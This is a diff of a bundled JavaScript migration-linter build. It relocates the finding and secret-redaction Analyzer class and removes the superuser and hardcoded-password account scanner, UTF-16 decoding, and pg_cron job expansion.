+            // it is cut, so a secret is never shown in part.
+            const nl = unit.text.indexOf('\n', startOff);
+            const snippetText = unit.text.slice(startOff, Math.max(r.unitEnd ?? 0, nl < 0 ? unit.text.length : nl));
+            this.add(meta, r, {
+                path: unit.path,
+                line: r.line ?? p.line,
+                column: r.column ?? p.column,
+                endLine: r.endLine ?? e.line,
+                snippet: unit.snippet ?? snippetText,
+                down: unit.down,
+                norm: lineText.replace(/\s+/g, ' ').trim().toLowerCase(),
+            });
+        };
+    }
+    fileReporter(meta, ex) {
+        return (r) => {
+            const line = r.line ?? 1;
+            const start = ex.lines.lineStart(line);
+            const nl = ex.text.indexOf('\n', start);
+            const lineText = ex.text.slice(start, nl < 0 ? ex.text.length : nl);
+            this.add(meta, r, {
+                path: ex.path,
+                line,
+                column: r.column ?? 1,
+                endLine: r.endLine ?? line,
+                snippet: lineText,
+                down: false,
+                norm: lineText.replace(/\s+/g, ' ').trim().toLowerCase(),
+            });
+        };
+    }
+    /** Run a rule hook; a crashing rule is a gating parse finding, never a silent pass. */
+    guard(meta, fallback, fn) {
+        try {
+            fn();
+        }
+        catch (e) {
+            fallback({ message: `Rule ${meta.id} failed on this input (${e.message}); it could not be verified.`, severity: 'error' });
+        }
+    }
+    analyzeFile(ex, statements) {
+        const parseMeta = this.metaById.get('parse-error');
+        for (const n of ex.notes) {
+            const meta = this.metaById.get(n.ruleId) ?? parseMeta;
+            if (!meta)
+                throw new Error(`internal: no rule ${n.ruleId}`);
+            this.fileReporter(meta, ex)({ ...n, message: n.message });
+        }
+        for (const unit of ex.units) {
+            for (const rule of this.rules) {
+                if (!rule.scanText)
+                    continue;
+                const report = this.unitReporter(rule.meta, unit);
+                this.guard(rule.meta, report, () => rule.scanText(unit, { report }));
+            }
+        }
+        for (const stmt of statements) {
+            for (const rule of this.rules) {
+                if (stmt.parsed && !rule.check)
+                    continue; // nothing to run: skip making its reporter
+                const report = this.statementReporter(rule.meta, stmt);
+                if (stmt.parsed) {
+                    if (rule.check)
+                        this.guard(rule.meta, report, () => rule.check(stmt, { report }));
+                }
+                else {
+                    // A rule whose `unparsed` hook gave a specific finding skips its generic lexical "Likely".
+                    let specific = false;
+                    const hookReport = (r) => ((specific = true), report(r));
+                    if (rule.unparsed)
+                        this.guard(rule.meta, report, () => rule.unparsed(stmt, { report: hookReport }));
+                    if (!specific && rule.lexical?.some((re) => re.test(stmt.lexical))) {
+                        report({ message: `Likely: ${rule.meta.summary} (found in a statement that could not be parsed).`, key: 'lexical' });
+                    }
+                }
+            }
+        }
+        for (const rule of this.rules) {
+            if (!rule.checkFile)
+                continue;
+            const report = this.fileReporter(rule.meta, ex);
+            this.guard(rule.meta, report, () => rule.checkFile(ex, { report }));
+        }
+    }
+    /** Run the rules' checkRun hooks over all files of the run (reports name their file by `path`). */
+    analyzeRun(files) {
+        const byPath = new Map(files.map((f) => [f.path, f]));
+        for (const rule of this.rules) {
+            if (!rule.checkRun)
+                continue;
+            const report = (r) => {
+                const ex = (r.path !== undefined ? byPath.get(r.path) : undefined) ?? files[0];
+                if (ex)
+                    this.fileReporter(rule.meta, ex)(r);
+            };
+            this.guard(rule.meta, report, () => rule.checkRun(files, { report }));
+        }
+    }
+    /** Run the rules' checkChange hooks over a pull request's file list. */
+    analyzeChanges(changes, policyPath, isMigration) {
+        for (const rule of this.rules) {
+            if (!rule.checkChange)
+                continue;
+            for (const change of changes) {
+                const report = (r) => {
+                    const line = r.line ?? 1;
+                    this.add(rule.meta, r, { path: r.path ?? change.filename, line, column: r.column ?? 1, endLine: r.endLine ?? line, snippet: '', down: false, norm: r.key ?? '' });
+                };
+                this.guard(rule.meta, report, () => rule.checkChange(change, { report, policyPath, isMigration }));
+            }
+        }
+    }
+    /** Findings with config applied, secrets redacted, fingerprints computed, sorted. */
+    findings() {
+        const downMode = this.config.down ?? 'report';
+        // `norm` is lower-cased: redact the lower-cased secrets from it too.
+        const normSecrets = new Set([...this.secrets, ...[...this.secrets].map((x) => x.toLowerCase())]);
+        const seen = new Set();
+        const counts = new Map();
+        const out = [];
+        for (const d of this.drafts) {
+            const setting = this.config.rules?.[d.meta.id];
+            let severity = d.severity;
+            let gatingOverride;
+            if (setting === 'off')
+                continue;
+            if (typeof setting === 'string')
+                severity = setting;
+            else if (setting) {
+                if (setting.off)
+                    continue;
+                if (setting.severity)
+                    severity = setting.severity;
+                gatingOverride = setting.gating;
+            }
+            if (d.down && downMode === 'ignore')
+                continue;
+            let gating = gatingOverride ?? severity === 'error';
+            if (d.down && downMode === 'report')
+                gating = false;
+            const message = redact(d.message, this.secrets);
+            // Redact the whole first line, then fold and cut it: a cut never splits a secret.
+            const first = firstLine(d.snippet);
+            const snippet = redact(finishSnippet(redact(first.line, this.secrets), first.more), this.secrets);
+            const dedupe = `${d.meta.id}\0${d.path}\0${d.line}\0${d.column}\0${message}`;
+            if (seen.has(dedupe))
+                continue;
+            seen.add(dedupe);
+            // The fingerprint hashes the statement text: with the secret in it, a weak password could be
+            // recovered from the fingerprint by trying a dictionary. Hash the redacted text instead.
+            const base = `${d.meta.id}\0${d.path}\0${redact(d.norm, normSecrets)}\0${redact(d.key, normSecrets)}\0${d.down}`;
+            const n = (counts.get(base) ?? 0) + 1;
+            counts.set(base, n);
+            const fingerprint = (0,external_node_crypto_.createHash)('sha256').update(`${base}\0${n}`).digest('hex').slice(0, 20);
+            const f = {
+                ruleId: d.meta.id,
+                category: d.meta.category,
+                severity,
+                gating,
+                path: d.path,
+                line: d.line,
+                column: d.column,
+                endLine: d.endLine,
+                message,
+                snippet,
+                fingerprint,
+            };
+            if (d.down)
+                f.down = true;
+            out.push(f);
+        }
+        const rank = { error: 0, warning: 1, info: 2 };
+        out.sort((a, b) => a.path.localeCompare(b.path) || a.line - b.line || a.column - b.column || rank[a.severity] - rank[b.severity] || a.ruleId.localeCompare(b.ruleId));
+        return out;
+    }
+}
+function countByCategory(findings) {
+    const r = {};
+    for (const f of findings)
+        r[f.category] = (r[f.category] ?? 0) + 1;
+    return r;
 }
 
 ;// CONCATENATED MODULE: ./src/position.ts
@@ -34638,7 +33097,6 @@ class PyAnalyzer {
             execution: [],
             dynamic: [],
             runPython: [],
-            accounts: [],
             stats: { ops: {}, djangoOps: {}, sqlStrings: 0, coreExpressions: 0, dynamic: 0, execution: 0, upUnits: 0, downUnits: 0 },
         };
     }
@@ -35602,101 +34060,7 @@ function importDerived(a, n, scope) {
     return !!q && q !== base.id;
 }
 
-;// CONCATENATED MODULE: ./src/python/accounts.ts
-
-const FLAGS = /^(is_superuser|is_staff|is_admin)$/;
-const CREATORS = /^(create_superuser|create_user|create|get_or_create|update_or_create|update|bulk_create)$/;
-function isTrue(n) {
-    return !!n && n.nodeType === 'Constant' && (n.value === true || n.value === 1);
-}
-function scanAccounts(a) {
-    const hits = a.facts.accounts;
-    const add = (node, scope, message, secrets) => {
-        const h = a.hitAt(node, message, { down: a.roleOf(scope) === 'down' });
-        hits.push(secrets.length ? { ...h, secrets } : h);
-    };
-    /** The literal value of a password argument, if it is one (a computed one is not a hardcoded credential). */
-    const password = (call, scope, index) => {
-        const p = a.arg(call, index, 'password');
-        if (!p || (p.nodeType === 'Constant' && p.value === null))
-            return [];
-        const f = a.fold(p, scope);
-        return f.ok && f.str.text ? [f.str.text] : [];
-    };
-    /** `is_superuser=True` among keywords, or inside `defaults={…}` / `**{…}`. */
-    const flagsOf = (call) => {
-        const out = [];
-        for (const kw of call.keywords ?? []) {
-            if (kw.arg && FLAGS.test(kw.arg) && isTrue(kw.value))
-                out.push(kw.arg);
-            const d = kw.value;
-            if ((kw.arg === 'defaults' || kw.arg === 'create_defaults' || kw.arg === null || kw.arg === undefined) && d?.nodeType === 'Dict') {
-                (d.keys ?? []).forEach((k, i) => {
-                    if (k?.nodeType === 'Constant' && typeof k.value === 'string' && FLAGS.test(k.value) && isTrue(d.values?.[i]))
-                        out.push(k.value);
-                });
-            }
-        }
-        return out;
-    };
-    const visit = (n, scope) => {
-        if (n.nodeType === 'FunctionDef' || n.nodeType === 'AsyncFunctionDef' || n.nodeType === 'Lambda') {
-            const inner = a.scopes.info(n) ?? scope;
-            const body = n.nodeType === 'Lambda' ? [n.body] : (n.body ?? []);
-            const inBody = new Set(body);
-            for (const c of children(n))
-                if (!inBody.has(c))
-                    visit(c, scope);
-            for (const c of body)
-                visit(c, inner);
-            return;
-        }
-        if (n.nodeType === 'Call' && n.func?.nodeType === 'Attribute') {
-            const m = String(n.func.attr);
-            if (m === 'create_superuser') {
-                const secrets = password(n, scope, 2);
-                add(n, scope, `\`${a.src.brief(n, 70)}\` creates a superuser account (every permission, admin site access)${secrets.length ? ' with a hardcoded password' : ''}: accounts belong to operators, not migrations.`, secrets);
-            }
-            else if (CREATORS.test(m)) {
-                const flags = flagsOf(n);
-                if (flags.length) {
-                    const secrets = password(n, scope, m === 'create_user' ? 2 : -1);
-                    const verb = m === 'update' ? 'promotes existing accounts to' : 'creates or promotes an account as';
-                    add(n, scope, `\`${a.src.brief(n, 70)}\` ${verb} ${[...new Set(flags)].join(' + ')}${secrets.length ? ' with a hardcoded password' : ''}: an account gains administrator rights through a migration.`, secrets);
-                }
-            }
-            else if (m === 'set_password' || m === 'make_password') {
-                // `user.set_password('…')` next to a promotion: the literal is a credential.
-                const f = n.args?.[0] ? a.fold(n.args[0], scope) : undefined;
-                if (f?.ok && f.str.text)
-                    add(n, scope, `\`${a.src.brief(n, 40)}\` sets a hardcoded password on an account.`, [f.str.text]);
-            }
-        }
-        else if (n.nodeType === 'Call' && n.func?.nodeType === 'Name' && n.func.id === 'make_password') {
-            const f = n.args?.[0] ? a.fold(n.args[0], scope) : undefined;
-            if (f?.ok && f.str.text)
-                add(n, scope, '`make_password(…)` hashes a hardcoded password for an account.', [f.str.text]);
-        }
-        if (n.nodeType === 'Assign' || n.nodeType === 'AnnAssign') {
-            const targets = n.nodeType === 'Assign' ? (n.targets ?? []) : [n.target];
-            for (const t of targets) {
-                if (t?.nodeType === 'Attribute' && FLAGS.test(String(t.attr)) && isTrue(n.value)) {
-                    add(n, scope, `\`${a.src.brief(n, 70)}\` promotes an account to ${t.attr}: it gains administrator rights through a migration.`, []);
-                }
-            }
-        }
-        if (n.nodeType === 'Call' && n.func?.nodeType === 'Name' && n.func.id === 'setattr' && FLAGS.test(String(n.args?.[1]?.value ?? '')) && isTrue(n.args?.[2])) {
-            add(n, scope, `\`${a.src.brief(n, 70)}\` promotes an account to ${n.args[1].value}: it gains administrator rights through a migration.`, []);
-        }
-        for (const c of children(n))
-            visit(c, scope);
-    };
-    for (const s of a.module.body ?? [])
-        visit(s, a.scopes.module);
-}
-
 ;// CONCATENATED MODULE: ./src/python/index.ts
-
 
 
 
@@ -35731,7 +34095,6 @@ function analyzePython(ex) {
         a.computeRoles();
         a.walk([alembicCall, sinkCall, ormCall, djangoCall], alembicWith);
         scanExecution(a);
-        scanAccounts(a);
         if (ex.kind === 'alembic')
             a.facts.alembic = alembicFacts(a);
         ex.facts.python = a.facts;
@@ -42986,346 +41349,6 @@ const creator = {
 
 //# sourceMappingURL=index.js.map
 
-// EXTERNAL MODULE: external "node:crypto"
-var external_node_crypto_ = __nccwpck_require__(7598);
-;// CONCATENATED MODULE: ./src/analyze.ts
-// analyze: run the rules over parsed statements, unit texts and whole files; turn their reports
-// into findings (positions, snippets, fingerprints, gating) with every secret redacted.
-
-const SNIPPET_MAX = 160;
-function snippetOf(text) {
-    const f = firstLine(text);
-    return finishSnippet(f.line, f.more);
-}
-/** The first non-blank line of a text, as written (secrets are redacted from it before it is cut). */
-function firstLine(text) {
-    let i = 0;
-    while (i < text.length) {
-        let e = text.indexOf('\n', i);
-        if (e < 0)
-            e = text.length;
-        const line = text.slice(i, e);
-        if (line.trim())
-            return { line, more: text.slice(e + 1).trim().length > 0 };
-        i = e + 1;
-    }
-    return { line: '', more: false };
-}
-function finishSnippet(line, more) {
-    let s = line.trim().replace(/\s+/g, ' ');
-    if (s.length > SNIPPET_MAX)
-        s = s.slice(0, SNIPPET_MAX) + '…';
-    else if (more)
-        s += ' …';
-    return s;
-}
-/** How a secret is shown: never the value, at most its first two characters and its length. */
-function maskSecret(secret) {
-    const head = secret.length >= 8 ? secret.slice(0, 2) : '';
-    return `${head}…(${secret.length} chars)`;
-}
-function redact(text, secrets) {
-    let out = text;
-    const all = [...secrets].filter(Boolean);
-    // Longest first, so a secret that contains another is masked whole.
-    const list = all.filter((s) => s.length >= 3).sort((a, b) => b.length - a.length);
-    for (const s of list) {
-        if (!out.includes(s))
-            continue;
-        // A secret that is a plain word (`postgres`, `admin`: well-known defaults) is masked where it
-        // stands as a word, not inside longer ones (`postgresql`); any other secret everywhere.
-        if (/^[A-Za-z]+$/.test(s))
-            out = out.replace(new RegExp(`(?<![A-Za-z0-9_])${s}(?![A-Za-z0-9_])`, 'g'), maskSecret(s));
-        else
-            out = out.split(s).join(maskSecret(s));
-    }
-    // One- and two-character secrets only where they stand quoted (`'ab'`) or as a URL password
-    // (`:ab@`): masking every `a` of a message would make it unreadable.
-    for (const s of all.filter((x) => x.length < 3)) {
-        const e = s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
-        out = out.replace(new RegExp(`(['"\`])${e}\\1|(:)${e}(@)`, 'g'), (_m, q, c, at) => (q ? q + maskSecret(s) + q : c + maskSecret(s) + at));
-    }
-    // A text cut short (a snippet, a statement quoted in a message) may end with the first part of
-    // a secret before `…`, or start with its last part: mask those pieces too.
-    for (const s of list) {
-        if (s.length < 4)
-            continue;
-        out = maskCutPieces(out, s);
-    }
-    return out;
-}
-const CUT = /…|\.\.\./g;
-function maskCutPieces(text, s) {
-    // Pieces of text between cut marks; the first may start with the secret's tail, and any piece
-    // followed by a cut mark or the end of the text may end with its head.
-    const parts = [];
-    let last = 0;
-    for (const m of text.matchAll(CUT)) {
-        parts.push({ body: text.slice(last, m.index), cut: m[0] });
-        last = m.index + m[0].length;
-    }
-    parts.push({ body: text.slice(last), cut: '' });
-    return parts
-        .map((p, i) => {
-        let b = p.body;
-        for (let k = Math.min(s.length - 1, b.length); k >= 3; k--) {
-            if (b.endsWith(s.slice(0, k))) {
-                b = b.slice(0, b.length - k) + maskSecret(s);
-                break;
-            }
-        }
-        if (i === 0 || parts[i - 1].cut) {
-            for (let k = Math.min(s.length - 1, b.length); k >= 3; k--) {
-                if (b.startsWith(s.slice(s.length - k))) {
-                    b = maskSecret(s) + b.slice(k);
-                    break;
-                }
-            }
-        }
-        return b + p.cut;
-    })
-        .join('');
-}
-class Analyzer {
-    rules;
-    config;
-    drafts = [];
-    secrets = new Set();
-    /** Rule meta by id, for the notes the extract stage reports by rule id. */
-    metaById;
-    constructor(rules, config) {
-        this.rules = rules;
-        this.config = config;
-        this.metaById = new Map(rules.map((r) => [r.meta.id, r.meta]));
-    }
-    add(meta, r, where) {
-        for (const s of r.secrets ?? [])
-            if (s)
-                this.secrets.add(s);
-        this.drafts.push({
-            meta,
-            severity: r.severity ?? meta.severity,
-            path: where.path,
-            line: where.line,
-            column: where.column,
-            endLine: Math.max(where.endLine, where.line),
-            message: r.message,
-            snippet: r.snippet ?? where.snippet,
-            down: r.down ?? where.down,
-            norm: where.norm,
-            key: r.key ?? '',
-        });
-    }
-    statementReporter(meta, stmt) {
-        return (r) => {
-            const p = stmt.unit.pos(stmt.start + (r.offset ?? 0));
-            const end = stmt.unit.pos(stmt.end);
-            // The snippet starts on the finding's own line: for a finding on a later line of a
-            // multi-line statement (`ALTER TABLE t DROP COLUMN a,\n ALTER COLUMN b TYPE …`), the
-            // statement's first line would show the wrong clause.
-            const off = Math.min(Math.max(r.offset ?? 0, 0), stmt.text.length);
-            const lineStart = r.line === undefined && off > 0 ? stmt.text.lastIndexOf('\n', off - 1) + 1 : 0;
-            this.add(meta, r, {
-                path: stmt.unit.path,
-                line: r.line ?? p.line,
-                column: r.column ?? p.column,
-                endLine: r.endLine ?? end.line,
-                snippet: stmt.unit.snippet ?? stmt.text.slice(lineStart),
-                down: stmt.unit.down,
-                norm: stmt.lexical,
-            });
-        };
-    }
-    unitReporter(meta, unit) {
-        return (r) => {
-            const startOff = r.unitOffset ?? 0;
-            const p = unit.pos(startOff);
-            const e = unit.pos(r.unitEnd ?? startOff);
-            const lineText = unit.text.slice(startOff, r.unitEnd ?? startOff + SNIPPET_MAX);
-            // The snippet runs to the end of the line, not SNIPPET_MAX characters: it is redacted before
-            // it is cut, so a secret is never shown in part.
-            const nl = unit.text.indexOf('\n', startOff);
-            const snippetText = unit.text.slice(startOff, Math.max(r.unitEnd ?? 0, nl < 0 ? unit.text.length : nl));
-            this.add(meta, r, {
-                path: unit.path,
-                line: r.line ?? p.line,
-                column: r.column ?? p.column,
-                endLine: r.endLine ?? e.line,
-                snippet: unit.snippet ?? snippetText,
-                down: unit.down,
-                norm: lineText.replace(/\s+/g, ' ').trim().toLowerCase(),
-            });
-        };
-    }
-    fileReporter(meta, ex) {
-        return (r) => {
-            const line = r.line ?? 1;
-            const start = ex.lines.lineStart(line);
-            const nl = ex.text.indexOf('\n', start);
-            const lineText = ex.text.slice(start, nl < 0 ? ex.text.length : nl);
-            this.add(meta, r, {
-                path: ex.path,
-                line,
-                column: r.column ?? 1,
-                endLine: r.endLine ?? line,
-                snippet: lineText,
-                down: false,
-                norm: lineText.replace(/\s+/g, ' ').trim().toLowerCase(),
-            });
-        };
-    }
-    /** Run a rule hook; a crashing rule is a gating parse finding, never a silent pass. */
-    guard(meta, fallback, fn) {
-        try {
-            fn();
-        }
-        catch (e) {
-            fallback({ message: `Rule ${meta.id} failed on this input (${e.message}); it could not be verified.`, severity: 'error' });
-        }
-    }
-    analyzeFile(ex, statements) {
-        const parseMeta = this.metaById.get('parse-error');
-        for (const n of ex.notes) {
-            const meta = this.metaById.get(n.ruleId) ?? parseMeta;
-            if (!meta)
-                throw new Error(`internal: no rule ${n.ruleId}`);
-            this.fileReporter(meta, ex)({ ...n, message: n.message });
-        }
-        for (const unit of ex.units) {
-            for (const rule of this.rules) {
-                if (!rule.scanText)
-                    continue;
-                const report = this.unitReporter(rule.meta, unit);
-                this.guard(rule.meta, report, () => rule.scanText(unit, { report }));
-            }
-        }
-        for (const stmt of statements) {
-            for (const rule of this.rules) {
-                if (stmt.parsed && !rule.check)
-                    continue; // nothing to run: skip making its reporter
-                const report = this.statementReporter(rule.meta, stmt);
-                if (stmt.parsed) {
-                    if (rule.check)
-                        this.guard(rule.meta, report, () => rule.check(stmt, { report }));
-                }
-                else {
-                    // A rule whose `unparsed` hook gave a specific finding skips its generic lexical "Likely".
-                    let specific = false;
-                    const hookReport = (r) => ((specific = true), report(r));
-                    if (rule.unparsed)
-                        this.guard(rule.meta, report, () => rule.unparsed(stmt, { report: hookReport }));
-                    if (!specific && rule.lexical?.some((re) => re.test(stmt.lexical))) {
-                        report({ message: `Likely: ${rule.meta.summary} (found in a statement that could not be parsed).`, key: 'lexical' });
-                    }
-                }
-            }
-        }
-        for (const rule of this.rules) {
-            if (!rule.checkFile)
-                continue;
-            const report = this.fileReporter(rule.meta, ex);
-            this.guard(rule.meta, report, () => rule.checkFile(ex, { report }));
-        }
-    }
-    /** Run the rules' checkRun hooks over all files of the run (reports name their file by `path`). */
-    analyzeRun(files) {
-        const byPath = new Map(files.map((f) => [f.path, f]));
-        for (const rule of this.rules) {
-            if (!rule.checkRun)
-                continue;
-            const report = (r) => {
-                const ex = (r.path !== undefined ? byPath.get(r.path) : undefined) ?? files[0];
-                if (ex)
-                    this.fileReporter(rule.meta, ex)(r);
-            };
-            this.guard(rule.meta, report, () => rule.checkRun(files, { report }));
-        }
-    }
-    /** Run the rules' checkChange hooks over a pull request's file list. */
-    analyzeChanges(changes, policyPath, isMigration) {
-        for (const rule of this.rules) {
-            if (!rule.checkChange)
-                continue;
-            for (const change of changes) {
-                const report = (r) => {
-                    const line = r.line ?? 1;
-                    this.add(rule.meta, r, { path: r.path ?? change.filename, line, column: r.column ?? 1, endLine: r.endLine ?? line, snippet: '', down: false, norm: r.key ?? '' });
-                };
-                this.guard(rule.meta, report, () => rule.checkChange(change, { report, policyPath, isMigration }));
-            }
-        }
-    }
-    /** Findings with config applied, secrets redacted, fingerprints computed, sorted. */
-    findings() {
-        const downMode = this.config.down ?? 'report';
-        // `norm` is lower-cased: redact the lower-cased secrets from it too.
-        const normSecrets = new Set([...this.secrets, ...[...this.secrets].map((x) => x.toLowerCase())]);
-        const seen = new Set();
-        const counts = new Map();
-        const out = [];
-        for (const d of this.drafts) {
-            const setting = this.config.rules?.[d.meta.id];
-            let severity = d.severity;
-            let gatingOverride;
-            if (setting === 'off')
-                continue;
-            if (typeof setting === 'string')
-                severity = setting;
-            else if (setting) {
-                if (setting.off)
-                    continue;
-                if (setting.severity)
-                    severity = setting.severity;
-                gatingOverride = setting.gating;
-            }
-            if (d.down && downMode === 'ignore')
-                continue;
-            let gating = gatingOverride ?? severity === 'error';
-            if (d.down && downMode === 'report')
-                gating = false;
-            const message = redact(d.message, this.secrets);
-            // Redact the whole first line, then fold and cut it: a cut never splits a secret.
-            const first = firstLine(d.snippet);
-            const snippet = redact(finishSnippet(redact(first.line, this.secrets), first.more), this.secrets);
-            const dedupe = `${d.meta.id}\0${d.path}\0${d.line}\0${d.column}\0${message}`;
-            if (seen.has(dedupe))
-                continue;
-            seen.add(dedupe);
-            // The fingerprint hashes the statement text: with the secret in it, a weak password could be
-            // recovered from the fingerprint by trying a dictionary. Hash the redacted text instead.
-            const base = `${d.meta.id}\0${d.path}\0${redact(d.norm, normSecrets)}\0${redact(d.key, normSecrets)}\0${d.down}`;
-            const n = (counts.get(base) ?? 0) + 1;
-            counts.set(base, n);
-            const fingerprint = (0,external_node_crypto_.createHash)('sha256').update(`${base}\0${n}`).digest('hex').slice(0, 20);
-            const f = {
-                ruleId: d.meta.id,
-                category: d.meta.category,
-                severity,
-                gating,
-                path: d.path,
-                line: d.line,
-                column: d.column,
-                endLine: d.endLine,
-                message,
-                snippet,
-                fingerprint,
-            };
-            if (d.down)
-                f.down = true;
-            out.push(f);
-        }
-        const rank = { error: 0, warning: 1, info: 2 };
-        out.sort((a, b) => a.path.localeCompare(b.path) || a.line - b.line || a.column - b.column || rank[a.severity] - rank[b.severity] || a.ruleId.localeCompare(b.ruleId));
-        return out;
-    }
-}
-function countByCategory(findings) {
-    const r = {};
-    for (const f of findings)
-        r[f.category] = (r[f.category] ?? 0) + 1;
-    return r;
-}
-
 ;// CONCATENATED MODULE: ./src/credentials.ts
 // Credential detection shared by the credential rules (rules/hardcoded-password.ts,
 // rules/connection-string-password.ts, rules/secret-token.ts, rules/config-credential.ts) and the
@@ -44497,7 +42520,6 @@ const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[
 function extract_decode(content) {
     let text;
     let invalidUtf8 = false;
-    let encoding = 'utf-8';
     if (typeof content === 'string') {
         // Unpaired UTF-16 surrogates (only a string given by a caller can hold them) are not text:
         // replaced one for one (offsets kept) and reported like invalid UTF-8.
@@ -44505,22 +42527,6 @@ function extract_decode(content) {
             invalidUtf8 = true;
             return '\uFFFD';
         });
-    }
-    else if (content.length >= 2 && ((content[0] === 0xff && content[1] === 0xfe) || (content[0] === 0xfe && content[1] === 0xff))) {
-        // A UTF-16 byte-order mark: the file is UTF-16, as Windows editors (Notepad, SSMS, Visual
-        // Studio "Unicode") save it, and as sqlcmd and SSMS read it. Decoded so its statements are
-        // checked (read as UTF-8 it would be NUL-riddled noise); the BOM is kept as U+FEFF for the
-        // offset-keeping replacement below. Invalid sequences (an odd length, lone surrogates) are
-        // reported like invalid UTF-8.
-        const enc = content[0] === 0xff ? 'utf-16le' : 'utf-16be';
-        encoding = enc;
-        try {
-            text = new TextDecoder(enc, { fatal: true, ignoreBOM: true }).decode(content);
-        }
-        catch {
-            invalidUtf8 = true;
-            text = new TextDecoder(enc, { fatal: false, ignoreBOM: true }).decode(content);
-        }
     }
     else {
         try {
@@ -44536,10 +42542,10 @@ function extract_decode(content) {
     const nul = text.includes('\0');
     if (nul)
         text = text.replace(/\0/g, ' ');
-    return { text, invalidUtf8, nul, encoding };
+    return { text, invalidUtf8, nul };
 }
 function extract(file, opts = {}) {
-    const { text, invalidUtf8, nul, encoding } = extract_decode(file.content);
+    const { text, invalidUtf8, nul } = extract_decode(file.content);
     const lines = new LineMap(text);
     const kind = classify(file.path, text);
     const notes = [];
@@ -44548,12 +42554,7 @@ function extract(file, opts = {}) {
         notes.push({ ruleId: 'parse-error', ...at, message: 'File contains NUL bytes (binary data?): it could not be verified and was scanned as text.' });
     }
     if (invalidUtf8) {
-        notes.push({ ruleId: 'parse-error', ...at, message: `File is not valid ${encoding.toUpperCase()}: it could not be verified and was scanned with invalid bytes replaced.` });
-    }
-    if (encoding !== 'utf-8' && (kind === 'alembic' || kind === 'django' || kind === 'python')) {
-        // CPython reads source as UTF-8 (PEP 3120; a BOM is recognised only for UTF-8, PEP 263), so
-        // it cannot import this file: it would fail at migration time. Checked anyway, as decoded.
-        notes.push({ ruleId: 'parse-error', ...at, message: `File is ${encoding.toUpperCase()} (byte-order mark): Python cannot import it (source must be UTF-8); it was checked as decoded.` });
+        notes.push({ ruleId: 'parse-error', ...at, message: 'File is not valid UTF-8: it could not be verified and was scanned with invalid bytes replaced.' });
     }
     const ex = { path: file.path, kind, dialect: null, text, lines, units: [], notes, facts: {} };
     switch (kind) {
@@ -45224,11 +43225,8 @@ function strVal(arg) {
  */
 function expandBodies(st, out, depth) {
     const kind = st.pg?.DoStmt ? 'do' : st.pg?.CreateFunctionStmt ? 'function' : null;
-    if (!kind) {
-        if (depth < MAX_DEPTH && /schedule/i.test(st.text))
-            expandCronJobs(st, out, depth);
+    if (!kind)
         return;
-    }
     const fail = (why) => out.push({ ...makeStatement(st.unit, st.start, st.end, { parsed: false, parseError: why }), nested: { kind } });
     if (depth >= MAX_DEPTH) {
         fail(`bodies nested more than ${MAX_DEPTH} levels deep: the innermost body was not analyzed`);
@@ -45303,83 +43301,6 @@ function expandBodiesAt(st, out, depth) {
         parseNestedSql(body, { st, out, depth, bodyStart, nested }, 1, false);
     }
     // Other languages (plpython3u, C, …) are reported by the execution rules from the statement.
-}
-/**
- * pg_cron: `cron.schedule([name,] schedule, command)`, `cron.schedule_in_database(name, schedule,
- * command, database, …)` and `cron.alter_job(job_id, schedule, command, …)` run `command` as SQL
- * on the schedule (https://github.com/citusdata/pg_cron#usage; named arguments `command := …`).
- * A constant command is parsed and its statements analyzed like a DO body's; a computed one is
- * reported by the scheduled-job rule as not verifiable.
- */
-function cronCalls(node) {
-    const out = [];
-    const visit = (n) => {
-        if (Array.isArray(n)) {
-            for (const x of n)
-                visit(x);
-            return;
-        }
-        if (!n || typeof n !== 'object')
-            return;
-        const f = n.FuncCall;
-        if (f) {
-            const fname = (f.funcname ?? []).map((x) => x?.String?.sval).join('.').toLowerCase();
-            const fn = /^(cron\.)?(schedule|schedule_in_database|alter_job)$/.exec(fname);
-            // Unqualified schedule() is pg_cron's only when cron is on the search_path; alter_job too generic bare.
-            if (fn && (fname.startsWith('cron.') || fn[2] !== 'alter_job')) {
-                const args = f.args ?? [];
-                const named = (k) => args.find((a) => a?.NamedArgExpr?.name === k)?.NamedArgExpr?.arg;
-                const pos = args.filter((a) => !a?.NamedArgExpr);
-                let command;
-                let job;
-                if (fn[2] === 'schedule') {
-                    command = named('command') ?? (pos.length >= 3 ? pos[2] : pos.length === 2 ? pos[1] : undefined);
-                    job = constString(named('job_name') ?? (pos.length >= 3 ? pos[0] : undefined));
-                }
-                else if (fn[2] === 'schedule_in_database') {
-                    command = named('command') ?? pos[2];
-                    job = constString(named('job_name') ?? pos[0]);
-                }
-                else {
-                    command = named('command') ?? pos[2];
-                    const id = pos[0]?.A_Const?.ival;
-                    job = id ? `#${id.ival ?? 0}` : undefined;
-                }
-                if (fname.startsWith('cron.') || command !== undefined)
-                    out.push({ fn: fname, job, command, location: f.location });
-            }
-        }
-        for (const k in n) {
-            const v = n[k];
-            if (v && typeof v === 'object')
-                visit(v);
-        }
-    };
-    visit(node);
-    return out;
-}
-function expandCronJobs(st, out, depth) {
-    if (!st.pg)
-        return;
-    for (const c of cronCalls(st.pg)) {
-        const sql = constString(c.command);
-        if (sql === undefined)
-            continue;
-        const nested = { kind: 'cron', name: c.job ?? '(unnamed)' };
-        let bodyStart = st.start;
-        const loc = c.command?.A_Const?.location;
-        if (st.pgText !== undefined && typeof loc === 'number' && loc >= 0) {
-            const lit = byteToChar(st.pgText)(loc) + (st.pgOffset ?? 0);
-            const m = /^(\$[^$\s]*\$|[Ee]?')/.exec(st.unit.text.slice(lit, lit + 64));
-            bodyStart = lit + (m ? m[0].length : 0);
-        }
-        try {
-            parseNestedSql(sql, { st, out, depth, bodyStart, nested }, 1, false);
-        }
-        catch (e) {
-            out.push({ ...makeStatement(st.unit, st.start, st.end, { parsed: false, parseError: `pg_cron job: ${errorMessage(e)}` }), nested });
-        }
-    }
 }
 /** Offset in the unit text of line `lineno` (1-based) of the body, pointing at `needle` if found. */
 function bodyOffset(ctx, lineno, needle) {
@@ -45893,8 +43814,6 @@ function nestedSuffix(stmt) {
         return '';
     if (stmt.nested.kind === 'do')
         return ' (inside a DO block)';
-    if (stmt.nested.kind === 'cron')
-        return ` (inside pg_cron job ${stmt.nested.name ?? '?'}; runs on its schedule)`;
     return ` (inside function ${stmt.nested.name ?? '?'}; runs whenever the function is called)`;
 }
 /** node-sql-parser table reference (`{db, table}` or a string) → 'db.table'. */
@@ -46060,8 +43979,6 @@ function inside(stmt) {
         return '';
     if (stmt.nested.kind === 'do')
         return ' inside a DO block';
-    if (stmt.nested.kind === 'cron')
